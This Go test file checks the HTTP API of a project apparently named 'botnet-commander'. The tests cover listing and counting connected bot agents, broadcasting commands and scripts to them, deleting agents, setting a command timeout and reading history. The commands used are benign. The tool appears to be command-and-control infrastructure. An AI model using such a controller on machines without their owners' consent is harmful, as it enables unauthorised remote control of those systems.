package api

import (
	"context"
	"encoding/json"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"go.uber.org/zap"

	"github.com/rpcyber/botnet-commander/internal/dispatch"
	"github.com/rpcyber/botnet-commander/internal/metrics"
	"github.com/rpcyber/botnet-commander/internal/protocol"
	"github.com/rpcyber/botnet-commander/internal/registry"
	"github.com/rpcyber/botnet-commander/internal/store"
)

const (
	uuidA = "6ba7b810-9dad-11d1-80b4-00c04fd430c1"
	uuidB = "6ba7b810-9dad-11d1-80b4-00c04fd430c2"
)

type nopWriter struct {
	mu     sync.Mutex
	frames []protocol.Message
}

func (n *nopWriter) WriteFrame(msg protocol.Message, _ time.Duration) error {
	n.mu.Lock()
	defer n.mu.Unlock()
	n.frames = append(n.frames, msg)
	return nil
}

func (n *nopWriter) Close() error { return nil }

type harness struct {
	router http.Handler
	reg    *registry.Registry
	store  *store.Store
}

func newHarness(t *testing.T) *harness {
	t.Helper()
	m := metrics.New()
	st, err := store.Open(store.Config{
		Path:          filepath.Join(t.TempDir(), "commander.db"),
		FlushInterval: 25 * time.Millisecond,
		Logger:        zap.NewNop(),
		Metrics:       m,
	})
	if err != nil {
		t.Fatalf("store.Open: %v", err)
	}
	t.Cleanup(func() { st.Close() })

	reg := registry.New(zap.NewNop(), m)
	d := dispatch.New(reg, st, zap.NewNop(), m)
	router := NewRouter(RouterConfig{
		Registry:   reg,
		Store:      st,
		Dispatcher: d,
		Metrics:    m,
		Logger:     zap.NewNop(),
	})
	return &harness{router: router, reg: reg, store: st}
}

func (h *harness) do(t *testing.T, method, target, body string) *httptest.ResponseRecorder {
	t.Helper()
	var req *http.Request
	if body != "" {
		req = httptest.NewRequest(method, target, strings.NewReader(body))
		req.Header.Set("Content-Type", "application/json")
	} else {
		req = httptest.NewRequest(method, target, nil)
	}
	rec := httptest.NewRecorder()
	h.router.ServeHTTP(rec, req)
	return rec
}

func decode[T any](t *testing.T, rec *httptest.ResponseRecorder) T {
	t.Helper()
	var v T
	if err := json.Unmarshal(rec.Body.Bytes(), &v); err != nil {
		t.Fatalf("decode %q: %v", rec.Body.String(), err)
	}
	return v
}

func TestCount(t *testing.T) {
	h := newHarness(t)
	ctx := context.Background()

	h.store.AddAgent(ctx, store.BotAgent{ID: uuidA, Hostname: "h1", Address: "a1", OS: "Linux"})
	h.store.AddAgent(ctx, store.BotAgent{ID: uuidB, Hostname: "h2", Address: "a2", OS: "Windows"})
	h.reg.Attach(registry.Identity{ID: uuidA, OS: "Linux"}, &nopWriter{})

	cases := []struct {
		target string
		want   int64
	}{
		{"/api/v1/agents/count", 2},
		{"/api/v1/agents/count?status=online", 1},
		{"/api/v1/agents/count?status=offline", 1},
		{"/api/v1/agents/count?status=online&os=Windows", 0},
		{"/api/v1/agents/count?os=Windows", 1},
	}
	for _, tc := range cases {
		rec := h.do(t, http.MethodGet, tc.target, "")
		if rec.Code != http.StatusOK {
			t.Fatalf("%s: status %d, body %s", tc.target, rec.Code, rec.Body.String())
		}
		if got := decode[int64](t, rec); got != tc.want {
			t.Errorf("%s = %d, want %d", tc.target, got, tc.want)
		}
	}

	// Only online, offline, or absent are accepted.
	for _, target := range []string{
		"/api/v1/agents/count?status=bogus",
		"/api/v1/agents/count?status=all",
	} {
		if rec := h.do(t, http.MethodGet, target, ""); rec.Code != http.StatusBadRequest {
			t.Errorf("%s: %d, want 400", target, rec.Code)
		}
	}
}

func TestListStatusSplit(t *testing.T) {
	h := newHarness(t)
	ctx := context.Background()

	h.store.AddAgent(ctx, store.BotAgent{ID: uuidA, Hostname: "h1", Address: "a1", OS: "Linux"})
	h.store.AddAgent(ctx, store.BotAgent{ID: uuidB, Hostname: "h2", Address: "a2", OS: "Linux"})
	h.reg.Warm([]registry.Identity{
		{ID: uuidA, Hostname: "h1", OS: "Linux", Addr: "a1"},
		{ID: uuidB, Hostname: "h2", OS: "Linux", Addr: "a2"},
	})
	h.reg.Attach(registry.Identity{ID: uuidA, Hostname: "h1", OS: "Linux", Addr: "a1"}, &nopWriter{})

	rec := h.do(t, http.MethodGet, "/api/v1/agents/*/list?status=online", "")
	online := decode[[]agentView](t, rec)
	if len(online) != 1 || online[0].ID != uuidA {
		t.Fatalf("online list = %+v, want only %s", online, uuidA)
	}

	rec = h.do(t, http.MethodGet, "/api/v1/agents/*/list?status=offline", "")
	offline := decode[[]agentView](t, rec)
	if len(offline) != 1 || offline[0].ID != uuidB {
		t.Fatalf("offline list = %+v, want only %s", offline, uuidB)
	}

	rec = h.do(t, http.MethodGet, "/api/v1/agents/*/list", "")
	if all := decode[[]agentView](t, rec); len(all) != 2 {
		t.Fatalf("full list = %+v, want 2 rows", all)
	}

	rec = h.do(t, http.MethodGet, "/api/v1/agents/not-a-uuid/list", "")
	if rec.Code != http.StatusBadRequest {
		t.Fatalf("invalid entity: %d, want 400", rec.Code)
	}
}

func TestCommandDispatch(t *testing.T) {
	h := newHarness(t)

	w := &nopWriter{}
	h.reg.Attach(registry.Identity{ID: uuidA, OS: "Linux"}, w)

	rec := h.do(t, http.MethodPost, "/api/v1/agents/*/cmd", `{"cmd":"uptime"}`)
	if rec.Code != http.StatusOK {
		t.Fatalf("status %d, body %s", rec.Code, rec.Body.String())
	}
	result := decode[map[string]string](t, rec)
	if result[uuidA] != "success" {
		t.Fatalf("result = %v", result)
	}

	rows, err := h.store.History(context.Background(), nil, false, "*")
	if err != nil || len(rows) != 1 || rows[0].EventDetail != "uptime" {
		t.Fatalf("history = %+v, %v", rows, err)
	}

	rec = h.do(t, http.MethodPost, "/api/v1/agents/*/cmd", `{"cmd":""}`)
	if rec.Code != http.StatusBadRequest {
		t.Fatalf("empty cmd: %d, want 400", rec.Code)
	}
}

func TestScriptValidation(t *testing.T) {
	h := newHarness(t)

	path := filepath.Join(t.TempDir(), "x.sh")
	if err := os.WriteFile(path, []byte("echo hi\n"), 0o644); err != nil {
		t.Fatalf("write script: %v", err)
	}

	rec := h.do(t, http.MethodPost, "/api/v1/agents/*/script",
		`{"script_path":"`+path+`","script_type":"ruby"}`)
	if rec.Code != http.StatusBadRequest {
		t.Fatalf("invalid type: %d, want 400", rec.Code)
	}

	rec = h.do(t, http.MethodPost, "/api/v1/agents/*/script",
		`{"script_path":"/no/such/file.sh","script_type":"sh"}`)
	if rec.Code != http.StatusBadRequest {
		t.Fatalf("missing path: %d, want 400", rec.Code)
	}

	rec = h.do(t, http.MethodPost, "/api/v1/agents/*/script",
		`{"script_path":"`+path+`","script_type":"sh"}`)
	if rec.Code != http.StatusOK {
		t.Fatalf("valid script: %d, body %s", rec.Code, rec.Body.String())
	}
}

func TestDeleteEvictsAndSweeps(t *testing.T) {
	h := newHarness(t)
	ctx := context.Background()

	h.store.AddAgent(ctx, store.BotAgent{ID: uuidA, Hostname: "h1", Address: "a1", OS: "Linux"})
	h.store.AddAgent(ctx, store.BotAgent{ID: uuidB, Hostname: "h2", Address: "a2", OS: "Windows"})
	h.reg.Attach(registry.Identity{ID: uuidA, OS: "Linux"}, &nopWriter{})
	h.reg.Attach(registry.Identity{ID: uuidB, OS: "Windows"}, &nopWriter{})

	rec := h.do(t, http.MethodDelete, "/api/v1/agents/*/delete?os=Linux", "")
	if rec.Code != http.StatusOK {
		t.Fatalf("status %d, body %s", rec.Code, rec.Body.String())
	}
	deleted := decode[[]string](t, rec)
	if len(deleted) != 1 || deleted[0] != uuidA {
		t.Fatalf("deleted = %v, want [%s]", deleted, uuidA)
	}

	if h.reg.Known(uuidA) {
		t.Error("deleted agent still in registry")
	}
	if got := h.reg.CountLive("*"); got != 1 {
		t.Errorf("CountLive = %d, want 1", got)
	}

	agents, _ := h.store.ExistingAgents(ctx)
	if len(agents) != 1 || agents[0].ID != uuidB {
		t.Fatalf("store agents = %+v, want only %s", agents, uuidB)
	}
}

func TestTimeoutEndpoint(t *testing.T) {
	h := newHarness(t)

	rec := h.do(t, http.MethodGet, "/api/v1/timeout", "")
	if got := decode[int64](t, rec); got != dispatch.DefaultCommandTimeout {
		t.Fatalf("default timeout = %d, want %d", got, dispatch.DefaultCommandTimeout)
	}

	rec = h.do(t, http.MethodPut, "/api/v1/timeout?timeout=120", "")
	if rec.Code != http.StatusOK {
		t.Fatalf("put: %d, body %s", rec.Code, rec.Body.String())
	}

	rec = h.do(t, http.MethodGet, "/api/v1/timeout", "")
	if got := decode[int64](t, rec); got != 120 {
		t.Fatalf("timeout after put = %d, want 120", got)
	}

	for _, target := range []string{
		"/api/v1/timeout?timeout=0",
		"/api/v1/timeout?timeout=86401",
		"/api/v1/timeout?timeout=abc",
	} {
		if rec := h.do(t, http.MethodPut, target, ""); rec.Code != http.StatusBadRequest {
			t.Errorf("%s: %d, want 400", target, rec.Code)
		}
	}
}

func TestHistoryOfflineSplit(t *testing.T) {
	h := newHarness(t)
	ctx := context.Background()

	h.store.AddAgent(ctx, store.BotAgent{ID: uuidA, Hostname: "h1", Address: "a1", OS: "Linux"})
	h.store.AddAgent(ctx, store.BotAgent{ID: uuidB, Hostname: "h2", Address: "a2", OS: "Linux"})
	resp := "done"
	code := "0"
	h.store.AddAgentEvents(ctx, []store.CommandEvent{
		{Time: "t", AgentID: uuidA, Event: "exeCommand", EventDetail: "x", Response: &resp, ExitCode: &code},
		{Time: "t", AgentID: uuidB, Event: "exeCommand", EventDetail: "y", Response: &resp, ExitCode: &code},
	})
	h.reg.Attach(registry.Identity{ID: uuidA, OS: "Linux"}, &nopWriter{})

	rec := h.do(t, http.MethodGet, "/api/v1/agents/*/history?status=online", "")
	online := decode[[]store.CommandEvent](t, rec)
	if len(online) != 1 || online[0].AgentID != uuidA {
		t.Fatalf("online history = %+v, want only %s's row", online, uuidA)
	}

	rec = h.do(t, http.MethodGet, "/api/v1/agents/*/history?status=offline", "")
	offline := decode[[]store.CommandEvent](t, rec)
	if len(offline) != 1 || offline[0].AgentID != uuidB {
		t.Fatalf("offline history = %+v, want only %s's row", offline, uuidB)
	}

	rec = h.do(t, http.MethodGet, "/api/v1/agents/"+uuidA+"/history", "")
	if rows := decode[[]store.CommandEvent](t, rec); len(rows) != 1 || rows[0].EventDetail != "x" {
		t.Fatalf("entity history = %+v", rows)
	}
}
